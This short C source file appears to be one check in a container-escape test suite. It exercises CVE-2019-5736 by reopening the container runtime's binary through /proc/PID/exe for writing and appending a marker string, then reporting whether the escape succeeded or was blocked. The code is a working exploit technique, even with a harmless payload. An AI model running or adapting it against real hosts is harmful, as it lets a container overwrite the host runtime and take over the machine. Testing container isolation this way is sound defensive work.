/* Overwrites the binary that started it, through /proc/PID/exe (CVE-2019-5736). */
#include "../escape.h"

TRICK(exe_of_runtime) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", told("ESC_RUNTIME"));
    int fd = open(path, O_PATH);
    TRY(fd);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 200; i++) {
        int file = open(path, O_WRONLY | O_APPEND);
        if (file >= 0) return write(file, "changed", 7) == 7 ? escaped("write to the binary") : blocked("write to the binary");
        if (errno != ETXTBSY) break;
        usleep(10000);
    }
    return blocked("open(/proc/self/fd/N, O_WRONLY)");
}
